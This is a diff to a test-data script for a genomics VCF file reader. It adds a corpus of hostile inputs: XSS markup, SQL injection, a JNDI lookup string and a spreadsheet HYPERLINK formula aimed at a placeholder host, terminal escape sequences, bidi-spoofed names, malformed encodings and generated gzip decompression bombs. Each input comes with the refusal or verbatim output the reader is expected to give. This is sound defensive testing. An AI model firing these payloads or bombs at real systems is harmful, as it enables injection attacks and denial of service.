@@ -1,14 +1,24 @@
-"""Malformed VCF inputs, each with the line number and message fragment the reader must give.
+"""Malformed and hostile VCF inputs, each with what the reader must do with it.
 
-The unit tests build these in memory (tests/unit/test_vcf.py). To get them as files, e.g. to try
-another tool on them:  python tests/data/bad_vcf/make_corpus.py OUTDIR
-(writes one file per case and OUTDIR/expected.tsv: file, line, message fragment).
+`BAD_CASES`: malformed inputs, each with the line number and message fragment the reader must give
+(tests/unit/test_vcf.py). `HOSTILE_CASES`: inputs built to hurt (markup and control characters in
+IDs, INFO and headers, other encodings, binaries, bombs, huge lines); each is either refused with a
+line number and message fragment, or accepted with strings that must come out verbatim
+(tests/reliability/test_hostile_vcf.py runs them through `gas annotate` and the worker).
+The tests build these in memory. To get them as files, e.g. to try another tool on them:
+    python tests/data/bad_vcf/make_corpus.py OUTDIR
+(writes one file per case and OUTDIR/expected.tsv: file, line, message fragment or "accepted").
 """
 from __future__ import annotations
 
 import gzip
+import io
 import sys
+import zipfile
+import zlib
+from collections.abc import Callable
 from dataclasses import dataclass, field
+from functools import lru_cache
 from pathlib import Path
 
 COLS = "#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\n"
@@ -119,6 +129,145 @@ BAD_CASES = [
 ]
 
 
+# ----------------------------------------------------------------------------- hostile inputs
+
+@dataclass(frozen=True)
+class HostileCase:
+    name: str
+    source: bytes | Callable[[], bytes]   # a callable for the big ones: built on first use only
+    line_no: int | None = None       # refused: the line named (None: the whole file)
+    fragment: str | None = None      # refused: part of the message; None = accepted
+    verbatim: tuple[str, ...] = ()   # accepted: strings that must reach the outputs unchanged
+    ids: tuple[str, ...] = ()        # accepted: the ID column as the parquet must hold it
+    records: int = 1                 # accepted: data records
+    filename: str = "in.vcf"
+    slow: bool = False               # takes seconds (bombs): only in `make reliability`
+
+    @property
+    def accepted(self) -> bool:
+        return self.fragment is None
+
+    @property
+    def data(self) -> bytes:
+        return self.source() if callable(self.source) else self.source
+
+
+def _refused(name: str, text: str | bytes | Callable[[], bytes], line_no: int | None, fragment: str, **kw) -> HostileCase:
+    return HostileCase(name, text.encode() if isinstance(text, str) else text, line_no, fragment, **kw)
+
+
+def _accepted(name: str, text: str, verbatim: tuple[str, ...] = (), ids: tuple[str, ...] = (), **kw) -> HostileCase:
+    return HostileCase(name, text.encode(), None, None, verbatim, ids, **kw)
+
+
+def _zip(name: str, text: str) -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        z.writestr(name, text)
+    return buf.getvalue()
+
+
+@lru_cache(maxsize=1)
+def _bomb_of_blank_lines(mb: int = 120) -> bytes:
+    """A valid VCF then `mb` MB of blank lines (which the reader skips): ~1030:1 gzip."""
+    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
+    parts = [comp.compress((HEAD + OK).encode())]
+    block = b"\n" * (1 << 20)
+    parts += [comp.compress(block) for _ in range(mb)]
+    parts.append(comp.flush())
+    return b"".join(parts)
+
+
+@lru_cache(maxsize=1)
+def _bomb_of_zeros(mb: int = 64) -> bytes:
+    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
+    parts = [comp.compress(HEAD.encode())]
+    parts += [comp.compress(bytes(1 << 20)) for _ in range(mb)]
+    parts.append(comp.flush())
+    return b"".join(parts)
+
+
+XSS_SCRIPT = "<script>alert(document.cookie)</script>"
+XSS_ATTR = '"><svg/onload=alert(1)>'
+XSS_IMG = "<img src=x onerror=alert(1)>"
+
+HOSTILE_CASES = [
+    # markup and injection payloads where VCF allows free text: accepted, kept verbatim
+    _accepted("markup_in_id", HEAD + _rec("1", "100", XSS_ATTR, "A", "G", ".", ".", "."),
+              verbatim=(XSS_ATTR,), ids=(XSS_ATTR,)),
+    _accepted("script_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "NOTE=" + XSS_SCRIPT),
+              verbatim=("NOTE=" + XSS_SCRIPT,)),
+    _accepted("img_in_filter", HEAD + _rec("1", "100", ".", "A", "G", ".", XSS_IMG, "."), verbatim=(XSS_IMG,)),
+    _accepted("markup_in_header", "##fileformat=VCFv4.2\n##source=" + XSS_SCRIPT + "\n"
+              '##INFO=<ID=X,Number=1,Type=String,Description="' + XSS_ATTR + '">\n' + COLS + OK,
+              verbatim=("##source=" + XSS_SCRIPT, XSS_ATTR)),
+    _accepted("markup_sample_name", "##fileformat=VCFv4.2\n" + COLS.rstrip("\n") + "\tFORMAT\t" + XSS_SCRIPT + "\n"
+              + _rec("1", "100", ".", "A", "G", ".", ".", ".", "GT", "0/1"), verbatim=(XSS_SCRIPT,)),
+    _accepted("markup_symbolic_alt", HEAD + _rec("1", "100", ".", "A", XSS_IMG, ".", ".", "."), verbatim=(XSS_IMG,)),
+    _accepted("markup_in_chrom", HEAD + _rec(XSS_ATTR, "100", ".", "A", "G", ".", ".", "."), verbatim=(XSS_ATTR,)),
+    _accepted("csv_formula_in_id", HEAD + _rec("1", "100", '=HYPERLINK("http://x.test","x")', "A", "G", ".", ".", "."),
+              ids=('=HYPERLINK("http://x.test","x")',)),
+    _accepted("sql_in_chrom", HEAD + _rec("1';DROP TABLE jobs;--", "100", ".", "A", "G", ".", ".", "."),
+              verbatim=("1';DROP TABLE jobs;--",)),
+    _accepted("format_strings_in_id", HEAD + _rec("1", "100", "%s%n%x{0}${jndi:ldap://x.test/a}", "A", "G", ".", ".", "."),
+              ids=("%s%n%x{0}${jndi:ldap://x.test/a}",)),
+    _accepted("json_breakers_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", 'X="}]\\u0000'),
+              verbatim=('X="}]\\u0000',)),
+    _accepted("bidi_override_in_id", HEAD + _rec("1", "100", "rs\u202egnp.exe", "A", "G", ".", ".", "."),
+              ids=("rs\u202egnp.exe",)),
+    _accepted("c1_csi_in_id", HEAD + _rec("1", "100", "rs\u009b31mred", "A", "G", ".", ".", "."),
+              ids=("rs\u009b31mred",)),
+    _accepted("unicode_line_breaks_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "X=a\u2028b\u2029c\u0085d"),
+              verbatim=("X=a\u2028b\u2029c\u0085d",)),
+    _accepted("emoji_zero_width_in_id", HEAD + _rec("1", "100", "rs\U0001f600\u200b", "A", "G", ".", ".", "."),
+              ids=("rs\U0001f600\u200b",)),
+    _accepted("many_alts", HEAD + _rec("1", "100", ".", "A", ",".join(["G", "C", "T"] * 1000), ".", ".", ".")),
+    _accepted("header_only_markup", "##fileformat=VCFv4.2\n##x=" + XSS_SCRIPT + "\n" + COLS, records=0),
+    _accepted("markup_file_name", HEAD + OK, filename=XSS_IMG.replace("/", "_") + ".vcf"),
+    # control characters anywhere: refused, the line named, the character shown by its code
+    _refused("ansi_color_in_id", HEAD + _rec("1", "100", "rs\x1b[31mred\x1b[0m", "A", "G", ".", ".", "."), 3,
+             "control character 0x1b at column 9"),
+    _refused("ansi_title_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "X=\x1b]0;pwned\x07"), 3,
+             "control character 0x1b"),
+    _refused("bell_in_filter", HEAD + _rec("1", "100", ".", "A", "G", ".", "PASS\x07", "."), 3, "control character 0x07"),
+    _refused("backspaces_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "GENE=BRCA1\x08\x08\x08\x08\x08TP53"),
+             3, "control character 0x08"),
+    _refused("delete_in_id", HEAD + _rec("1", "100", "rs1\x7f", "A", "G", ".", ".", "."), 3, "control character 0x7f"),
+    _refused("vertical_tab_in_info", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "X=1\x0bY=2"), 3,
+             "control character 0x0b"),
+    _refused("nul_in_id", HEAD + _rec("1", "100", "rs\x001", "A", "G", ".", ".", "."), 3, "NUL byte at column 9"),
+    _refused("markup_in_pos", HEAD + _rec("1", XSS_SCRIPT, ".", "A", "G", ".", ".", "."), 3,
+             "POS must be a positive integer, found '<script>alert(document.cookie)</sc"),
+    _refused("markup_in_ref", HEAD + _rec("1", "100", ".", "<b>", "G", ".", ".", "."), 3, "REF must be bases"),
+    _refused("markup_in_end", HEAD + _rec("1", "100", ".", "N", "<DEL>", ".", ".", "END=<script>"), 3,
+             "INFO END must be a positive integer, found '<script>'"),
+    # other encodings: refused at the first byte that is not UTF-8 text
+    _refused("utf16le_bom", "\ufeff".encode("utf-16-le") + (HEAD + OK).encode("utf-16-le"), 1, "NUL byte"),
+    _refused("utf16be_bom", b"\xfe\xff" + (HEAD + OK).encode("utf-16-be"), 1, "NUL byte"),
+    _refused("utf32", (HEAD + OK).encode("utf-32"), 1, "NUL byte"),
+    _refused("latin1_in_info", HEAD.encode() + "1\t100\t.\tA\tG\t.\t.\tNOTE=caf\xe9\n".encode("latin-1"), 3,
+             "invalid UTF-8 (byte 0xe9) at column 25"),
+    _refused("cp1252_quotes_in_id", HEAD.encode() + b"1\t100\t\x93rs1\x94\tA\tG\t.\t.\t.\n", 3,
+             "invalid UTF-8 (byte 0x93) at column 7"),
+    _refused("overlong_utf8_markup", HEAD.encode() + b"1\t100\t\xc0\xbcscript\xc0\xbe\tA\tG\t.\t.\t.\n", 3,
+             "invalid UTF-8 (byte 0xc0)"),
+    _refused("utf8_surrogate", HEAD.encode() + b"1\t100\t\xed\xa0\x80\tA\tG\t.\t.\t.\n", 3, "invalid UTF-8 (byte 0xed)"),
+    # not a VCF at all
+    _refused("elf_binary", b"\x7fELF\x02\x01\x01\x00" + bytes(56), 1, "control character 0x7f at column 1"),
+    _refused("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", 1, "the first line must be ##fileformat"),
+    _refused("html_page", "<!DOCTYPE html><html><script>alert(1)</script></html>\n", 1, "the first line must be ##fileformat"),
+    _refused("zip_of_vcf", _zip("a.vcf", HEAD + OK), None, "unsupported compression (zip)"),
+    _refused("gzip_of_gzip", gz(gz((HEAD + OK).encode())), 1, "control character 0x1f at column 1"),
+    # size attacks: bounded work, refused
+    _refused("huge_info_line", HEAD + _rec("1", "100", ".", "A", "G", ".", ".", "X=" + "<b>" * 400_000), 3,
+             "line longer than 1048576 bytes"),
+    _refused("no_newline_3mb", "##fileformat=VCFv4.2" + "A" * (3 << 20), 1, "line longer than 1048576 bytes"),
+    _refused("gzip_bomb_of_zeros", _bomb_of_zeros, 3, "line longer than 1048576 bytes", filename="in.vcf.gz"),
+    _refused("gzip_bomb_of_blank_lines", _bomb_of_blank_lines, None, "refusing a possible decompression bomb",
+             filename="in.vcf.gz", slow=True),
+]
+
+
 def main(outdir: Path) -> None:
     outdir.mkdir(parents=True, exist_ok=True)
     rows = []
@@ -126,6 +275,10 @@ def main(outdir: Path) -> None:
         name = f"{c.name}{''.join(Path(c.filename).suffixes)}"
         (outdir / name).write_bytes(c.data)
         rows.append(f"{name}\t{c.line_no or ''}\t{c.fragment}")
+    for h in HOSTILE_CASES:
+        name = f"hostile_{h.name}{''.join(Path(h.filename).suffixes)}"
+        (outdir / name).write_bytes(h.data)
+        rows.append(f"{name}\t{h.line_no or ''}\t{'accepted' if h.accepted else h.fragment}")
     (outdir / "expected.tsv").write_text("\n".join(rows) + "\n")
 
 
